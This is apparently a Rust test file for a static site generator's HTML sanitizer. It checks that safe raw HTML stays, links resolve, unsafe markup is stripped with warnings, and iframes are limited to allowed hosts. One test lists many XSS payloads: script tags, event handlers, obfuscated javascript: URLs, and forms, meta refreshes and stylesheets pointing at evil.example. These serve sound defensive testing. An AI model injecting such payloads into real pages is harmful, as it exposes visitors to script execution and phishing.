//! Raw HTML in Markdown: what text can use stays, what could run does not.

use crate::harness::Site;
use crate::html::Html;

fn built(markdown: &str) -> Html {
    let site = Site::themed().file("content/a.md", markdown).file("content/b.md", "").picture("content/p.jpg");
    site.build();
    site.html("a/index.html")
}

#[test]
fn what_text_can_use_stays() {
    let page = built("<details><summary>More</summary>\n\n*Text* with <kbd>Esc</kbd>, H<sub>2</sub>O.\n\n</details>\n");
    assert_eq!(page.named("summary").count(), 1);
    assert_eq!(page.first("kbd").text, "Esc");
    let page = built("<figure id=\"door\" class=\"wide\"><img src=\"p.jpg\" alt=\"The door\"></figure>\n");
    assert_eq!(page.first("img").get("src"), Some("/p.jpg"), "its address is one of the site's");
    assert!(page.id("door").is_some_and(|figure| figure.is_of("wide")));
}

#[test]
fn an_address_in_raw_html_is_a_link_like_any_other() {
    assert_eq!(built("<a href=\"b.md\">b</a>\n").link("b"), "/b/");
    assert_eq!(built("<a id=\"here\"></a>\n\n[x](#here)\n").link("x"), "#here");
    let inside = built("<div>\n\n### <a href=\"b.md\">b</a>\n\n</div>\n");
    assert_eq!(inside.link("b"), "/b/", "also when the heading is cleaned, and then what is around it");
    let site = Site::themed().file("content/a.md", "text\n\n> more <a href=\"nothing.md\">b</a>\n");
    site.check().only("link/broken").at("content/a.md", 3).column(8);
}

#[test]
fn nothing_that_runs_loads_or_hides_is_published() {
    for text in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<p onclick=alert(1)>x</p>",
        "<img src=x onerror=alert(1) alt=x>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<iframe src='https://evil.example'></iframe>",
        "<object data='x.swf'></object><embed src='x.swf'>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<style>*{display:none}</style>",
        "<p style='position:fixed;inset:0'>x</p>",
        "<form action='https://evil.example'><input name=card></form>",
        "<base href='https://evil.example/'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href='https://evil.example/x.css'>",
        "<p>text <b onmouseover=alert(1)>bold</b></p>",
        "- <b onmouseover=alert(1)>in a list</b>",
        "## <b onmouseover=alert(1)>in a heading</b>",
        "| <b onmouseover=alert(1)>in a table</b> |\n| - |",
        "note[^1]\n\n[^1]: <b onmouseover=alert(1)>in a note</b>",
        "<div\n onclick=alert(1)>over lines</div>",
        "<!-- --!><script>alert(1)</script> -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<div title=\"\n\n[x](https://evil.example/onmouseover=alert(1)//)\n\n\">",
        "[x](https://evil.example/onmouseover=alert(1)//) <b title=\"&#2;o0&#3;\">x</b>",
        "[x](https://evil.example/onmouseover=alert(1)//)\n\n```&#2;o0&#3;\nx\n```",
    ] {
        let page = built(&format!("{text}\n"));
        for element in page.all() {
            let banned = [
                "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "base", "meta", "link",
            ];
            assert!(!banned.contains(&element.name.as_str()), "{text} gives <{}>", element.name);
            for (name, value) in &element.attributes {
                let value: String = value.chars().filter(|c| !c.is_control()).collect();
                assert!(!name.starts_with("on") && name != "style", "{text} gives {name}");
                assert!(!value.to_lowercase().contains("javascript:"), "{text} gives {name}={value}");
            }
        }
    }
}

#[test]
fn the_author_is_told_what_is_left_out() {
    let site =
        Site::themed().file("content/a.md", "Text.\n\n<iframe src=\"x\"></iframe>\n\nA <p style=\"color:red\">b</p>\n");
    site.check().are(
        "content/a.md:3:1 warning content/unsafe-html\n\
         content/a.md:5:3 warning content/unsafe-html",
    );
}

#[test]
fn an_open_tag_does_not_swallow_the_page() {
    let site = Site::new("plain")
        .file("content/a.md", "---\ntitle: A\n---\n<div><b>\n\ntext\n\n## Next\n\n</section></main>\n");
    site.build();
    let page = site.html("a/index.html");
    assert_eq!(page.named("main").count(), 1);
    assert!(page.id("next").is_some());
    // The footer of the theme is still there, outside of what was left open.
    let text = site.output("a/index.html");
    let (open, close) = (text.matches("<b>").count(), text.matches("</b>").count());
    assert_eq!(open, close, "{text}");
    assert_eq!(text.matches("</main>").count(), 1, "{text}");
}

#[test]
fn a_field_is_cleaned_too() {
    let kind = "extends: page\ntemplate: note.html\nfields:\n  note: { type: markdown }\n  plain: { type: text }\n";
    let site = Site::themed()
        .kind("page", kind)
        .template("note.html", "{{ page.fields.note | safe }}<p>{{ page.fields.plain }}</p>{{ page.title }}")
        .file("content/a.md", "---\ntitle: '<b>T</b>'\nnote: '<b onclick=x>[b](b.md)</b> <script>x</script>'\nplain: <script>x</script>\n---\n")
        .file("content/b.md", "");
    site.build();
    let page = site.html("a/index.html");
    assert_eq!((page.named("script").count(), page.named("b").count()), (0, 1), "{}", site.output("a/index.html"));
    assert_eq!(page.first("b").attributes.len(), 0);
    assert_eq!(page.link("b"), "/b/");
}

#[test]
fn an_anchor_that_is_set_twice_is_told_of() {
    let told = |text: &str| {
        let problems = Site::themed().file("content/a.md", text).check();
        problems.iter().map(|problem| (problem.code.clone(), problem.start.0)).collect::<Vec<_>>()
    };
    let repeated = |line: u64| vec![("content/repeated-anchor".to_owned(), line)];
    assert_eq!(told("<p id=top>a</p>\n\n<p id=top>b</p>\n"), repeated(3));
    assert_eq!(told("## Top\n\n<p id=top>b</p>\n"), repeated(3));
    assert_eq!(told("<p id=main>b</p>\n"), repeated(1));
    assert_eq!(told("<p id=fn-1>b</p>\n"), repeated(1));
    // A heading makes room, and `name` beside `id` is the same anchor.
    assert_eq!(told("<p id=top>b</p>\n\n## Top\n\n<a id=x name=x>c</a>\n"), []);
}

#[test]
fn a_frame_stays_only_where_the_theme_allows_its_host() {
    let with = |markdown: &str| {
        let theme = "name: Mine\nextends: plain\nembeds: { video: { hosts: [video.example] } }\n";
        Site::themed().file("themes/mine/theme.yaml", theme).file("content/a.md", markdown)
    };
    let frame = "<iframe src=\"https://video.example/1?a=b&amp;c=d\" title=\"A &quot;walk&quot;\" onload=x style=y srcdoc=z allow=camera width=9></iframe>";
    for text in [format!("{frame}\n\nAfter.\n"), format!("Before {frame} after.\n"), format!("- <b>x</b> {frame}\n")] {
        let site = with(&text);
        site.build().none();
        let page = site.html("a/index.html");
        let found = page.first("iframe");
        assert_eq!(found.get("src"), Some("https://video.example/1?a=b&c=d"));
        assert_eq!(found.get("title"), Some("A \"walk\""));
        assert!(found.get("sandbox").is_some_and(|limits| !limits.contains("top-navigation")));
        let names: Vec<&str> = found.attributes.iter().map(|(name, _)| name.as_str()).collect();
        assert_eq!(names, ["class", "src", "title", "loading", "referrerpolicy", "sandbox", "allowfullscreen"]);
    }
    for refused in [
        "<iframe src=https://evil.example/ title=x></iframe>",
        "<iframe src=http://video.example/ title=x></iframe>",
        "<iframe src=https://video.example@evil.example/ title=x></iframe>",
        "<iframe src=https://video.example/></iframe>",
        "<iframe srcdoc='<script>x</script>' title=x></iframe>",
        "<iframe title=x></iframe>",
        "<b title='<iframe src=https://video.example/ title=x></iframe>'>x</b>",
        "<!-- <iframe src=https://video.example/ title=x></iframe> -->",
    ] {
        let site = with(&format!("{refused}\n"));
        site.build();
        assert_eq!(site.html("a/index.html").named("iframe").count(), 0, "{refused}: {}", site.output("a/index.html"));
    }
    let site = with("<iframe src=https://evil.example/ title=x></iframe>\n");
    site.check().only("content/unsafe-html").says("video (https://video.example)");
    let site =
        with("").file("themes/mine/theme.yaml", "extends: plain\nembeds: { video: { hosts: [https://x.example/] } }\n");
    site.check().only("theme/declaration").says("host");
}
